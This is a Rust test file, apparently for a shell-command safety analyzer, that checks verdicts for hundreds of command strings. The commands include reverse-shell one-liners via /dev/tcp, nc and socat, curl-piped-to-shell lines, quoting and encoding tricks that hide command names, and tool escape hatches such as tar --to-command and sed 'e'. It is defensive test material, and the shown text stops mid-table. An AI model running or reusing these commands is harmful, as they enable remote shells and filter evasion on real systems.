//! One test per feature of the analyzer issue: each row is a command, the
//! verdict it must get, and rule ids that must be among its findings.

use bashgate_analyzer::{analyze, Verdict};

use Verdict::{Network as N, Safe as S, Unknown as U};

/// Checks every row and reports all failures at once.
fn table(rows: &[(&str, Verdict, &[&str])]) {
    let mut wrong = Vec::new();
    for (cmd, want, rules) in rows {
        let a = analyze(cmd);
        let ids: Vec<&str> = a.findings.iter().map(|f| f.rule.id()).collect();
        let missing: Vec<&&str> = rules.iter().filter(|r| !ids.contains(r)).collect();
        if a.verdict != *want || !missing.is_empty() {
            wrong.push(format!(
                "{cmd:?}: want {want} {rules:?}, got {} {ids:?}\n    {:?}",
                a.verdict,
                a.findings.iter().map(|f| &f.message).collect::<Vec<_>>()
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {} rows wrong:\n{}",
        wrong.len(),
        rows.len(),
        wrong.join("\n")
    );
}

#[test]
fn names_after_quote_removal() {
    table(&[
        (r#""curl" x"#, N, &["BG101"]),
        ("'curl' x", N, &["BG101"]),
        (r#"c"u"rl x"#, N, &["BG101"]),
        (r"c\url x", N, &["BG101"]),
        (r"\curl x", N, &["BG101"]),
        ("cu''rl x", N, &["BG101"]),
        (r#"cu""rl x"#, N, &["BG101"]),
        (r"$'\x63url' x", N, &["BG101"]),
        (r"$'\143url' x", N, &["BG101"]),
        (r"$'\u0063url' x", N, &["BG101"]),
        (r"$'\U00000063url' x", N, &["BG101"]),
        (r"$'c\x75rl' x", N, &["BG101"]),
        ("/usr/bin/curl x", N, &["BG101"]),
        ("/bin/nc -e sh h 1", N, &["BG101"]),
        ("./cat README.md", U, &["BG202"]),
        ("bin/grep x", U, &["BG202"]),
        ("/tmp/ls", U, &["BG202"]),
        ("~/bin/ls", U, &["BG202"]),
        (r#""ls" -la"#, S, &[]),
        ("'echo' hi", S, &[]),
        ("/usr/bin/cat f", S, &[]),
        (r#""" x"#, U, &["BG201"]),
    ]);
}

#[test]
fn dynamic_names() {
    table(&[
        ("$x evil.com", U, &["BG302"]),
        ("${x} evil.com", U, &["BG302"]),
        ("$a$b evil.com", U, &["BG302"]),
        ("$(echo curl) evil.com", U, &["BG302"]),
        ("`echo curl` evil.com", U, &["BG302"]),
        ("${cmd[@]}", U, &["BG302"]),
        ("{curl,evil.com}", U, &["BG301"]),
        ("c{u,}rl evil.com", U, &["BG302"]),
        ("curl$IFS-x", U, &["BG302"]),
        ("c*rl x", U, &["BG302"]),
        ("/usr/bin/c?rl x", U, &["BG302"]),
        (r#"$"curl" x"#, U, &["BG302"]),
        ("echo $x ${y:-z} $(date)", S, &[]),
        ("echo $HOME ${PWD} \"$@\"", S, &[]),
    ]);
}

#[test]
fn every_place_code_runs() {
    table(&[
        ("ls | curl x", N, &["BG101"]),
        ("ls && curl x", N, &["BG101"]),
        ("ls || curl x", N, &["BG101"]),
        ("ls; curl x", N, &["BG101"]),
        ("curl x & ls", N, &["BG101"]),
        ("(curl x)", N, &["BG101"]),
        ("{ curl x; }", N, &["BG101"]),
        ("if curl x; then ls; fi", N, &["BG101"]),
        (
            "if ls; then :; elif true; then :; else curl x; fi",
            N,
            &["BG101"],
        ),
        ("while curl x; do :; done", N, &["BG101"]),
        ("until ls; do curl x; done", N, &["BG101"]),
        ("for i in a b; do curl $i; done", N, &["BG101"]),
        ("for ((i=0;i<3;i++)); do curl x; done", N, &["BG101"]),
        ("select x in a b; do curl $x; done", N, &["BG101"]),
        ("case x in a) curl x;; esac", N, &["BG101"]),
        ("f() { curl x; }", N, &["BG101"]),
        ("function f { curl x; }; f", N, &["BG101"]),
        ("coproc curl x", N, &["BG101"]),
        ("trap 'curl x' EXIT", N, &["BG101"]),
        ("! curl x", N, &["BG101"]),
        ("echo $(curl x)", N, &["BG101"]),
        ("echo `curl x`", N, &["BG101"]),
        ("echo \"$(curl x)\"", N, &["BG101"]),
        ("$(curl x)", N, &["BG101"]),
        ("x=$(curl x)", N, &["BG101"]),
        ("export X=$(curl x)", N, &["BG101"]),
        ("local x=`curl x`", N, &["BG101"]),
        ("a=(1 $(curl x))", N, &["BG101"]),
        ("cat > $(curl x)", N, &["BG101"]),
        ("cat <<EOF\n$(curl x)\nEOF", N, &["BG101"]),
        ("cat <<EOF\n`curl x`\nEOF", N, &["BG101"]),
        ("echo ${x:-$(curl y)}", N, &["BG101"]),
        ("echo $(( $(curl x) + 1 ))", N, &["BG101"]),
        ("echo ${a[$(curl x)]}", N, &["BG101"]),
        ("[[ -f $(curl x) ]]", N, &["BG101"]),
        ("test -f $(curl x)", N, &["BG101"]),
        ("[ -f \"$(curl x)\" ]", N, &["BG101"]),
        ("case $(curl x) in *) ;; esac", N, &["BG101"]),
        ("for f in $(curl x); do :; done", N, &["BG101"]),
        ("cat <(curl x)", N, &["BG101"]),
        ("ls > >(curl x)", N, &["BG101"]),
        ("tee >(curl -d @- x)", N, &["BG101"]),
        ("echo $(echo $(echo $(curl x)))", N, &["BG101"]),
        ("echo \"`echo \\`curl x\\``\"", N, &["BG101"]),
        ("(( x = $(curl y) ))", N, &["BG101"]),
        // And where nothing runs:
        ("echo '$(curl x)'", S, &[]),
        ("echo \"\\$(curl x)\"", S, &[]),
        ("cat <<'EOF'\n$(curl x)\nEOF", S, &[]),
        ("cat <<\"EOF\"\n`curl x`\nEOF", S, &[]),
        ("for i in 1 2 3; do echo $i; done", S, &[]),
        ("if [ -f x ]; then cat x; else echo no; fi", S, &[]),
        // A call may run the function or a program of that name (the
        // definition can be conditional, backgrounded or unset): both count.
        ("f() { ls; }; f", U, &["BG201"]),
        ("curl() { :; }; curl x", N, &["BG101"]),
    ]);
}

#[test]
fn redirects_to_sockets() {
    table(&[
        ("cat < /dev/tcp/10.0.0.1/4242", N, &["BG106"]),
        ("echo x > /dev/tcp/h/80", N, &["BG106"]),
        ("echo x >> /dev/udp/h/53", N, &["BG106"]),
        ("exec 3<>/dev/tcp/h/80", N, &["BG106"]),
        ("exec 5<> /dev/tcp/h/80", N, &["BG106"]),
        ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", N, &["BG106"]),
        ("sh -i &> /dev/udp/h/1", N, &["BG106"]),
        ("echo x >| /dev/tcp/h/1", N, &["BG106"]),
        ("cat 0</dev/tcp/h/1", N, &["BG106"]),
        ("ls 2>/dev/tcp/h/1", N, &["BG106"]),
        ("exec 3</dev/tcp/h/1", N, &["BG106"]),
        ("{ ls; } > /dev/tcp/h/1", N, &["BG106"]),
        ("while read l; do :; done < /dev/tcp/h/1", N, &["BG106"]),
        ("f() { ls; } > /dev/tcp/h/1", N, &["BG106"]),
        ("echo x > \"/dev/tcp/h/1\"", N, &["BG106"]),
        ("echo x > /dev/'tcp'/h/1", N, &["BG106"]),
        ("echo x > //dev/tcp/h/1", N, &["BG106"]),
        ("cat < $(echo /dev/tcp/h/1)", U, &["BG308"]),
        ("echo x > $dest", U, &["BG308"]),
        ("echo x > /dev/$p/h/1", U, &["BG308"]),
        // A computed name can climb out with `..` or be .bashrc.
        ("echo x > out/$name", U, &["BG213"]),
        ("echo x > /tmp/$name", U, &["BG213"]),
        ("ls > out.txt 2>&1", S, &[]),
        ("ls 2>/dev/null", S, &[]),
        ("echo /dev/tcp/h/1", S, &[]),
        ("grep -r /dev/tcp .", S, &[]),
        ("cat < <(ls)", S, &[]),
        // A grammar gap: `<>` leaves an ERROR node; never safe.
        ("cat <> file", U, &["BG301"]),
    ]);
}

#[test]
fn heredocs_and_herestrings_fed_to_shells() {
    table(&[
        ("bash <<EOF\ncurl x\nEOF", N, &["BG101"]),
        ("sh <<'EOF'\ncurl x\nEOF", N, &["BG101"]),
        ("bash <<-EOF\n\tcurl x\n\tEOF", N, &["BG101"]),
        ("bash <<< 'curl x'", N, &["BG101"]),
        ("sh <<< \"wget y\"", N, &["BG101"]),
        ("bash <<'EOF'\nls -la\nEOF", S, &[]),
        ("bash <<< 'echo hi'", S, &[]),
        ("bash <<EOF\n$cmd\nEOF", U, &["BG306"]),
        ("bash <<EOF\necho \\\"; curl x; \\\"\nEOF", N, &["BG101"]),
        ("python3 <<EOF\nprint(1)\nEOF", N, &["BG104"]),
        ("cat <<EOF | sh\nls\nEOF", U, &["BG207"]),
        ("bash < script.sh", U, &["BG203"]),
        ("cat script.sh | bash", U, &["BG207"]),
        ("bash", U, &["BG207"]),
        ("curl -s x | sh", N, &["BG105"]),
        ("wget -qO- x | bash -s -- arg", N, &["BG105"]),
        ("curl x | tee log | sudo bash", N, &["BG105"]),
        ("curl x | python3", N, &["BG105"]),
        ("wget -qO- x | python3 -", N, &["BG105"]),
        ("curl x | perl", N, &["BG105"]),
        ("echo cHJpbnQoMSk= | base64 -d | python3", N, &["BG208"]),
        (
            "curl -s api | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
            N,
            &["BG104"],
        ),
        ("curl -s api | node script.js", N, &["BG104"]),
        ("echo Y3VybA== | base64 -d | sh", U, &["BG208"]),
        ("echo 6375726c | xxd -r -p | bash", U, &["BG208"]),
        ("echo 'lru' | rev | sh", U, &["BG208"]),
        ("gunzip -c x.gz | sh", U, &["BG208"]),
    ]);
}

#[test]
fn wrappers() {
    table(&[
        ("env curl x", N, &["BG101"]),
        ("env -i curl x", N, &["BG101"]),
        ("env -u HOME curl x", N, &["BG101"]),
        ("env --unset=HOME curl x", N, &["BG101"]),
        ("env -- curl x", N, &["BG101"]),
        ("env A=1 B=2 curl x", N, &["BG101"]),
        ("env -S 'curl x'", N, &["BG101"]),
        ("env -C /tmp curl x", N, &["BG101"]),
        ("env", S, &[]),
        ("env ls", S, &[]),
        ("sudo curl x", N, &["BG101"]),
        ("sudo -u root -g wheel curl x", N, &["BG101"]),
        ("sudo -E -H curl x", N, &["BG101"]),
        ("sudo -l", S, &[]),
        ("sudo -s", U, &["BG207"]),
        ("doas curl x", N, &["BG101"]),
        ("su -c 'curl x' root", N, &["BG101"]),
        ("su root -c 'curl x'", N, &["BG101"]),
        ("su - root", U, &["BG207"]),
        ("runuser -u nobody -- curl x", N, &["BG101"]),
        ("runuser nobody -c 'curl x'", N, &["BG101"]),
        ("nice curl x", N, &["BG101"]),
        ("nice -n 10 curl x", N, &["BG101"]),
        ("nice -10 curl x", N, &["BG101"]),
        ("nohup curl x &", N, &["BG101"]),
        ("timeout 5 curl x", N, &["BG101"]),
        ("timeout -s KILL -k 1 5 curl x", N, &["BG101"]),
        ("timeout --signal=TERM 5 curl x", N, &["BG101"]),
        ("timeout 5 ls", S, &[]),
        ("stdbuf -oL curl x", N, &["BG101"]),
        ("stdbuf -o L curl x", N, &["BG101"]),
        ("command curl x", N, &["BG101"]),
        ("command -p curl x", N, &["BG101"]),
        ("command -v curl", S, &[]),
        ("builtin eval 'curl x'", N, &["BG101"]),
        ("exec curl x", N, &["BG101"]),
        ("exec -a name curl x", N, &["BG101"]),
        ("time curl x", N, &["BG101"]),
        ("time -p ls", S, &[]),
        ("setsid curl x", N, &["BG101"]),
        ("setsid -f curl x", N, &["BG101"]),
        ("ionice -c 3 curl x", N, &["BG101"]),
        ("ionice -p 123", S, &[]),
        ("chrt -f 10 curl x", N, &["BG101"]),
        ("taskset 0x1 curl x", N, &["BG101"]),
        ("taskset -c 0 curl x", N, &["BG101"]),
        ("taskset -p 123", S, &[]),
        ("flock /tmp/l curl x", N, &["BG101"]),
        ("flock /tmp/l -c 'curl x'", N, &["BG101"]),
        ("flock -w 5 /tmp/l -c 'ls'", S, &[]),
        ("script -q -c 'curl x' /dev/null", N, &["BG101"]),
        ("script -c 'ls' out.log", S, &[]),
        ("script", U, &["BG207"]),
        ("watch curl x", N, &["BG101"]),
        ("watch -n 1 'ls; curl x'", N, &["BG101"]),
        ("watch -x curl x", N, &["BG101"]),
        ("watch -n 2 ls", S, &[]),
        ("strace curl x", N, &["BG101"]),
        ("strace -f -o log curl x", N, &["BG101"]),
        ("ltrace curl x", N, &["BG101"]),
        ("busybox nc h 1", N, &["BG101"]),
        ("busybox wget x", N, &["BG101"]),
        ("busybox sh -c 'curl x'", N, &["BG101"]),
        ("busybox ls", S, &[]),
        ("xargs curl", N, &["BG101"]),
        ("xargs -0 curl", N, &["BG101"]),
        ("xargs -n 1 -P 4 curl", N, &["BG101"]),
        ("xargs -I{} curl {}", N, &["BG101"]),
        ("xargs -I % sh -c 'curl %'", U, &["BG306"]),
        ("xargs -i curl {}", N, &["BG101"]),
        ("xargs --max-args=1 curl", N, &["BG101"]),
        ("xargs -d '\\n' -r curl", N, &["BG101"]),
        ("xargs", S, &[]),
        ("ls | xargs wc -l", S, &[]),
        ("xargs rg --pre x", U, &["BG204"]),
        ("xargs rg pattern", U, &["BG210"]),
        ("find . -exec curl {} \\;", N, &["BG101"]),
        ("find . -execdir curl {} +", N, &["BG101"]),
        ("find . -ok curl {} \\;", N, &["BG101"]),
        ("find . -okdir curl {} \\;", N, &["BG101"]),
        (
            "find . -name x -exec ls {} \\; -exec curl x \\;",
            N,
            &["BG101"],
        ),
        ("find . -exec sh -c 'curl $1' _ {} \\;", N, &["BG101"]),
        ("find . -exec sh -c 'cat {}' \\;", U, &["BG306"]),
        ("find . -type f -exec grep -l x {} +", S, &[]),
        ("find . -exec curl", U, &["BG305"]),
        ("parallel curl ::: a b", N, &["BG101"]),
        ("parallel 'curl {}' ::: a b", N, &["BG101"]),
        ("parallel -S host echo ::: a", N, &["BG107"]),
        ("parallel -j 4 gzip ::: a b", S, &[]),
        ("sudo env nice timeout 5 curl x", N, &["BG101"]),
        ("timeout --frobnicate 5 ls", U, &["BG305"]),
        ("nohup", U, &["BG305"]),
        ("timeout 5", U, &["BG305"]),
        ("sudo $cmd", U, &["BG302"]),
        ("env $opts curl x", U, &["BG302"]),
    ]);
}

#[test]
fn embedded_scripts() {
    table(&[
        ("bash -c 'curl x'", N, &["BG101"]),
        ("sh -c \"curl x\"", N, &["BG101"]),
        ("zsh -c 'curl x'", N, &["BG101"]),
        ("dash -c 'curl x'", N, &["BG101"]),
        ("ksh -c 'curl x'", N, &["BG101"]),
        ("bash -xc 'curl x'", N, &["BG101"]),
        ("bash -lc 'curl x'", N, &["BG101"]),
        ("bash -ec 'ls; curl x'", N, &["BG101"]),
        ("bash -o pipefail -c 'curl x'", N, &["BG101"]),
        ("bash --norc -c 'curl x'", N, &["BG101"]),
        ("bash -c -- 'curl x'", N, &["BG101"]),
        ("/bin/bash -c 'curl x'", N, &["BG101"]),
        ("bash -c 'bash -c \"curl x\"'", N, &["BG101"]),
        ("bash -c 'ls -la'", S, &[]),
        ("sh -c 'echo $1' _ x", S, &[]),
        ("bash -c \"$script\"", U, &["BG306"]),
        ("bash -c", U, &["BG306"]),
        ("bash script.sh", U, &["BG203"]),
        ("sh ./install.sh", U, &["BG203"]),
        ("bash --rcfile x -i", U, &["BG211"]),
        ("source ~/.bashrc", U, &["BG203"]),
        (". ./env.sh", U, &["BG203"]),
        ("eval 'curl x'", N, &["BG101"]),
        ("eval curl x", N, &["BG101"]),
        ("eval \"ls; curl x\"", N, &["BG101"]),
        ("eval \"$cmd\"", U, &["BG306"]),
        ("eval 'echo hi'", S, &[]),
        ("trap 'curl x' INT TERM", N, &["BG101"]),
        ("trap - INT", S, &[]),
        ("trap '' INT", S, &[]),
        ("trap -p", S, &[]),
        ("trap \"$handler\" EXIT", U, &["BG306"]),
        ("zsh -c 'ls'", U, &["BG209"]),
        ("fish -c 'ls'", U, &["BG209"]),
        ("sh -c 'curl x | sh'", N, &["BG105"]),
        ("bash -c \"echo \\$(curl x)\"", N, &["BG101"]),
    ]);
}

#[test]
fn local_tools_with_escape_hatches() {
    table(&[
        ("find . -name '*.rs'", S, &[]),
        ("find . -fprint /tmp/x", U, &["BG204"]),
        ("find . -fprintf /tmp/x '%p'", U, &["BG204"]),
        ("find . -fls /tmp/x", U, &["BG204"]),
        ("find . -name '*.tmp' -delete", S, &["BG001"]),
        ("find . $args", U, &["BG210"]),
        ("sed -n '1,5p' f", S, &[]),
        ("sed -i 's/a/b/g' f", S, &[]),
        ("sed -e 's/a/b/' -e '/x/d' f", S, &[]),
        ("sed 's/a/b/e' f", U, &["BG204"]),
        ("sed -n '1e id' f", U, &["BG204"]),
        ("sed --expression='e curl x' f", U, &["BG204"]),
        ("sed -e 'w /dev/sda' f", U, &["BG204"]),
        ("sed -f script.sed f", U, &["BG211"]),
        ("sed \"$expr\" f", U, &["BG210"]),
        ("sed --sandbox 's/a/b/e' f", S, &[]),
        ("awk '{print $1}' f", S, &[]),
        ("awk -F: '{print $1}' /etc/passwd", S, &[]),
        ("awk '/a|b/ {n++} END {print n}' f", S, &[]),
        ("awk 'BEGIN{system(\"curl x\")}'", U, &["BG204"]),
        ("awk '{print | \"sh\"}' f", U, &["BG204"]),
        ("awk 'BEGIN{\"id\" | getline x}'", U, &["BG204"]),
        (
            "gawk 'BEGIN{s=\"/inet/tcp/0/h/1\"; print \"x\" |& s}'",
            N,
            &["BG107"],
        ),
        ("awk -f prog.awk f", U, &["BG211"]),
        ("tar czf a.tgz src", S, &[]),
        ("tar xf a.tar --to-command='sh -c x'", U, &["BG204"]),
        ("tar -I 'sh -c id' -xf a.tar", U, &["BG204"]),
        ("tar --use-compress-program=zstd -xf a.tar", U, &["BG204"]),
        (
            "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh",
            U,
            &["BG204"],
        ),
        ("tar cf x.tar *", U, &["BG210"]),
        ("tar cf x.tar src/*", S, &[]),
        ("tar xf host:archive.tar", N, &["BG107"]),
        ("sort -u f", S, &[]),
        ("sort --compress-program=sh f", U, &["BG204"]),
        ("sort --compress-prog=sh f", U, &["BG204"]),
        ("split --filter='sh' f", U, &["BG204"]),
        ("rg pattern src/", S, &[]),
        ("rg --pre ./pre.sh x", U, &["BG204"]),
        ("rg --pre=cat x", U, &["BG204"]),
        ("rg --hostname-bin=x y", U, &["BG204"]),
        ("git status", U, &["BG206"]),
        ("git -c core.pager=sh log", U, &["BG204"]),
        ("git clone https://x/y", N, &["BG102"]),
        ("git -C repo fetch", N, &["BG102"]),
        ("git push origin main", N, &["BG102"]),
        ("less file", U, &["BG201"]),
        ("more '+!curl x' file", U, &["BG204"]),
        ("man ls", S, &[]),
        ("man -P 'sh -c id' ls", U, &["BG204"]),
        ("man --pager=sh ls", U, &["BG204"]),
        ("vim file", N, &["BG104"]),
        ("zip a.zip f", S, &[]),
        ("zip a.zip f -T -TT 'sh -c id'", U, &["BG204"]),
        ("zip --unzip-command=sh a.zip f", U, &["BG204"]),
        ("make", U, &["BG206"]),
        ("gdb -ex 'python import os' -batch", N, &["BG104"]),
        ("LD_PRELOAD=./x.so ls", U, &["BG205"]),
        ("LD_LIBRARY_PATH=/tmp ls", U, &["BG205"]),
        ("PATH=/tmp:$PATH ls", U, &["BG205"]),
        ("BASH_ENV=x bash -c ls", U, &["BG205"]),
        ("ENV=x sh -c ls", U, &["BG205"]),
        ("PROMPT_COMMAND='curl x' ls", U, &["BG205"]),
        ("GIT_SSH_COMMAND='sh -c id' git status", U, &["BG205"]),
        ("PAGER=sh man ls", U, &["BG205"]),
        ("EDITOR=sh crontab -e", U, &["BG205"]),
        ("export PATH=/tmp", U, &["BG205"]),
        ("declare -x LD_PRELOAD=x", U, &["BG205"]),
        ("PATH=/tmp", U, &["BG205"]),
        ("TAR_OPTIONS=--to-command=sh tar xf a.tar", U, &["BG205"]),
        (
            "env 'BASH_FUNC_ls%%=() { curl x; }' bash -c ls",
            U,
            &["BG205"],
        ),
        ("LC_ALL=C TZ=UTC date", S, &[]),
        ("printf -v 'a[$(id)]' x", U, &["BG309"]),
        ("read 'a[$(id)]' <<< x", U, &["BG309"]),
        ("test -v 'a[$(id)]'", U, &["BG309"]),
        ("printf -v name '%s' x", S, &[]),
        ("mapfile -C 'curl x' -c 1 arr < f", U, &["BG204"]),
        ("hash -p /tmp/x ls", U, &["BG204"]),
        ("alias ls=curl", U, &["BG201"]),
    ]);
}

#[test]
fn network_and_code_runners() {
    table(&[
        ("curl x", N, &["BG101"]),
        ("wget x", N, &["BG101"]),
        ("nc -e /bin/sh h 1", N, &["BG101"]),
        ("ncat h 1", N, &["BG101"]),
        ("socat tcp:h:1 exec:sh", N, &["BG101"]),
        ("ssh h", N, &["BG101"]),
        ("scp f h:", N, &["BG101"]),
        ("sftp h", N, &["BG101"]),
        ("rsync -a h:/x .", N, &["BG101"]),
        ("telnet h 1", N, &["BG101"]),
        ("ftp h", N, &["BG101"]),
        ("tftp h", N, &["BG101"]),
        ("dig example.com", N, &["BG101"]),
        ("nslookup x", N, &["BG101"]),
        ("host x", N, &["BG101"]),
        ("ping -c1 x", N, &["BG101"]),
        ("traceroute x", N, &["BG101"]),
        ("openssl s_client -connect h:443", N, &["BG102"]),
        ("openssl dgst -sha256 f", S, &[]),
        ("openssl req -engine ./lib.so", U, &["BG204"]),
        ("docker pull x", N, &["BG102"]),
        ("docker run x", N, &["BG102"]),
        ("docker ps", U, &["BG201"]),
        ("kubectl get pods", N, &["BG101"]),
        ("pip install x", N, &["BG103"]),
        ("pip3 install x", N, &["BG103"]),
        ("python3 -m pip install x", N, &["BG104"]),
        ("pip list", U, &["BG201"]),
        ("npm install", N, &["BG103"]),
        ("npm i x", N, &["BG103"]),
        ("npm run build", U, &["BG206"]),
        ("npx cowsay", N, &["BG104"]),
        ("yarn add x", N, &["BG103"]),
        ("pnpm add x", N, &["BG103"]),
        ("cargo install x", N, &["BG103"]),
        ("cargo build", U, &["BG206"]),
        ("gem install x", N, &["BG103"]),
        ("go get x", N, &["BG103"]),
        ("go install x@latest", N, &["BG103"]),
        ("apt install x", N, &["BG103"]),
        ("apt-get -y install x", N, &["BG103"]),
        ("apt-get update", N, &["BG103"]),
        ("apk add x", N, &["BG103"]),
        ("dnf install x", N, &["BG103"]),
        ("yum install x", N, &["BG103"]),
        ("brew install x", N, &["BG103"]),
        ("python x.py", N, &["BG104"]),
        ("python3.11 -c 1", N, &["BG104"]),
        ("node -e 1", N, &["BG104"]),
        ("perl -e 1", N, &["BG104"]),
        ("ruby -e 1", N, &["BG104"]),
        ("php -r 1", N, &["BG104"]),
        ("lua -e 1", N, &["BG104"]),
        ("tclsh x", N, &["BG104"]),
        ("expect -c x", N, &["BG104"]),
        ("Rscript -e 1", N, &["BG104"]),
        ("deno run x", N, &["BG104"]),
        ("bun x", N, &["BG104"]),
    ]);
}

#[test]
fn limits_and_bad_input() {
    let deep = format!("{}curl x{}", "$(".repeat(300), ")".repeat(300));
    let a = analyze(&deep);
    assert_ne!(a.verdict, Verdict::Safe);
    // Embedding within the depth limit is analyzed, not refused.
    let mut embeds = String::from("ls");
    for _ in 0..4 {
        embeds = format!("bash -c {}", shell_quote(&embeds));
    }
    assert_eq!(analyze(&embeds).verdict, Verdict::Safe, "{embeds}");
    let mut nested = String::from("curl x");
    for _ in 0..12 {
        nested = format!("eval {}", shell_quote(&nested));
    }
    let a = analyze(&nested);
    assert_ne!(a.verdict, Verdict::Safe, "deep eval chain");
    assert!(
        a.findings.iter().any(|f| f.rule.id() == "BG303"),
        "{:?}",
        a.findings
    );

    let huge = "ls ".repeat(40_000);
    let a = analyze(&huge);
    assert_eq!(a.verdict, Verdict::Unknown);
    assert!(a.findings.iter().any(|f| f.rule.id() == "BG303"));

    let long_pipe = vec!["cat"; 3000].join(" | ");
    assert_ne!(analyze(&long_pipe).verdict, Verdict::Network);

    let a = bashgate_analyzer::analyze_bytes(b"ls \xff\xfe");
    assert_eq!(a.verdict, Verdict::Unknown);
    assert!(a.findings.iter().any(|f| f.message.contains("UTF-8")));
    let a = bashgate_analyzer::analyze_bytes(b"curl \xff");
    assert_eq!(a.verdict, Verdict::Network);

    for bad in [
        "echo 'unterminated",
        "if true; then",
        "ls |",
        "$(",
        "((",
        "case x in",
        "}",
    ] {
        assert_eq!(analyze(bad).verdict, Verdict::Unknown, "{bad:?}");
    }
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

#[test]
fn findings_point_at_the_source() {
    let cmd = "ls && bash -c 'echo hi; curl x'";
    let a = analyze(cmd);
    let f = a
        .findings
        .iter()
        .find(|f| f.rule.id() == "BG101")
        .expect("curl found");
    assert_eq!(&cmd[f.span.start..f.span.end], "curl");
    let cmd = "echo $(wget y)";
    let f = analyze(cmd)
        .findings
        .into_iter()
        .find(|f| f.rule.id() == "BG101")
        .unwrap();
    assert_eq!(&cmd[f.span.start..f.span.end], "wget");
}

#[test]
fn invocations_are_resolved() {
    let a = analyze("timeout 5 env LC_ALL=C nice -n 5 grep -r \"cu\"rl src/");
    let grep = a
        .invocations
        .iter()
        .find(|i| i.program.as_deref() == Some("grep"))
        .expect("grep resolved");
    assert_eq!(
        grep.args,
        vec![
            Some("-r".to_string()),
            Some("curl".to_string()),
            Some("src/".to_string())
        ]
    );
    assert_eq!(grep.via, vec!["timeout", "env", "nice"]);
    assert_eq!(a.verdict, Verdict::Safe);
    // The same behind sudo is found too, but no longer provably local.
    let a = analyze("sudo -u x grep -r curl src/");
    assert!(a
        .invocations
        .iter()
        .any(|i| i.program.as_deref() == Some("grep") && i.via == ["sudo"]));
    assert_eq!(a.verdict, Verdict::Unknown);
    let a = analyze("cat $f");
    assert_eq!(a.invocations[0].args, vec![None]);
}

#[test]
fn redirects_are_listed_with_their_targets() {
    let a = analyze("cat < .env > out.txt; bash -c 'ls 2>> log' && echo x > $f");
    let mut redirects = a.redirects.clone();
    redirects.sort_by_key(|r| r.span.start);
    let got: Vec<(&str, Option<&str>, Option<&str>, usize)> = redirects
        .iter()
        .map(|r| {
            (
                r.op.as_str(),
                r.fd.as_deref(),
                r.target.as_deref(),
                r.via.len(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            ("<", None, Some(".env"), 0),
            (">", None, Some("out.txt"), 0),
            (">>", Some("2"), Some("log"), 1),
            (">", None, None, 0),
        ]
    );
}

#[test]
fn privileges_and_trusted_directories() {
    table(&[
        ("sudo ls", U, &["BG212"]),
        ("doas cat f", U, &["BG212"]),
        ("su -c 'ls' root", U, &["BG212"]),
        ("pkexec ls", U, &["BG212"]),
        ("sudo -l", S, &[]),
        ("chmod 4755 f", U, &["BG212"]),
        ("chmod u+s f", U, &["BG212"]),
        ("chmod 755 f && chmod +x g", S, &[]),
        ("install -m 6777 f /tmp/x", U, &["BG212"]),
        ("install -m 755 f dist/", S, &[]),
        ("ln -fs /bin/sh /bin/ln", U, &["BG213"]),
        ("cp x /usr/local/bin/ls", U, &["BG213"]),
        ("dd if=x of=/usr/bin/cat", U, &["BG213"]),
        ("echo x > /usr/bin/grep", U, &["BG213"]),
        ("echo x >> //bin/./ls", U, &["BG213"]),
        ("cat /usr/bin/ls > copy", S, &[]),
        ("cp /bin/ls ./ls-copy", S, &[]),
        ("/tmp/socat tcp:h:1 exec:sh", N, &["BG202", "BG101"]),
        ("./curl x", N, &["BG202", "BG101"]),
        ("./build.sh", U, &["BG202"]),
    ]);
}

#[test]
fn arithmetic_on_run_time_values() {
    table(&[
        ("x='a[$(curl y)]'; echo $((x))", U, &["BG309"]),
        ("x=$(cat f); echo $((x + 1))", U, &["BG309"]),
        ("read n; (( n > 3 ))", U, &["BG309"]),
        ("read n; [[ n -eq 1 ]]", U, &["BG309"]),
        ("for f in *; do echo $((f)); done", U, &["BG309"]),
        ("x=$1; echo ${s:x}", U, &["BG309"]),
        ("x=$1; echo ${!x}", U, &["BG309"]),
        ("x=$1; echo ${a[x]}", U, &["BG309"]),
        ("x=$1; let y=x+1", U, &["BG309"]),
        (
            "mapfile -t a < f; for ((i=0; i<a; i++)); do :; done",
            U,
            &["BG309"],
        ),
        ("declare -i n; read n", U, &["BG309"]),
        ("echo \"${x@P}\"", U, &["BG309"]),
        // A substitution's output is evaluated like a variable's value.
        ("echo $(( $(cat n.txt) + 1 ))", U, &["BG309"]),
        ("[[ $(cat n.txt) -eq 1 ]]", U, &["BG309"]),
        ("echo ${s:$(cat n.txt)}", U, &["BG309"]),
        // wc prints the file name after the count when given an operand;
        // a function of the same name prints anything.
        ("echo $(( $(wc -l 'a[$(id)]') ))", U, &["BG309"]),
        (
            "wc() { echo 'a[$(id)]'; }; echo $(( $(wc -l < f) ))",
            U,
            &["BG309"],
        ),
        // Static and arithmetic values are fine, and so are variables the
        // command does not set.
        ("x=5; echo $((x * 2))", S, &[]),
        ("for i in 1 2 3; do echo $((i * 2)); done", S, &[]),
        ("for ((i=0; i<10; i++)); do echo $i; done", S, &[]),
        ("echo $((COLUMNS / 2))", S, &[]),
        ("echo $(( $(wc -l < notes.txt) + 1 ))", S, &[]),
        ("echo $(( $(nproc) * 2 ))", S, &[]),
        ("n=$(wc -l < f); [ \"$n\" -gt 3 ] && echo big", S, &[]),
        ("read -r line; echo \"$line\"", S, &[]),
    ]);
}

#[test]
fn found_by_the_corpus_and_the_oracle() {
    table(&[
        // Words tree-sitter splits that bash reads as one.
        ("w`true`get https://example.com/x", U, &["BG302"]),
        ("w\\\nget https://example.com/x", N, &["BG101"]),
        ("sh -c 'ls; '\\\n'curl'", N, &["BG101"]),
        ("sh -c 'ls; '\\c'url'", N, &["BG101"]),
        ("echo x >/de\\\nv/tcp/127.0.0.1/9", N, &["BG106"]),
        // Globs spread over tokens, and globs that could become -exec.
        ("find . -exe[c] curl {} \\;", U, &["BG210"]),
        ("find . -name '*.rs' -newer x*", S, &[]),
        // Tab-stripped heredocs.
        ("cat <<-EOF\n\t$(nc -l 4444)\n\tEOF", N, &["BG101"]),
        ("bash <<-EOF\n\tcurl x\n\tEOF", N, &["BG101"]),
        ("cat <<-'EOF'\n\t$(nc -l 4444)\n\tEOF", S, &[]),
        // A socket whose host and port are variables is still a socket.
        ("echo x > /dev/tcp/$HOST/$PORT", N, &["BG106"]),
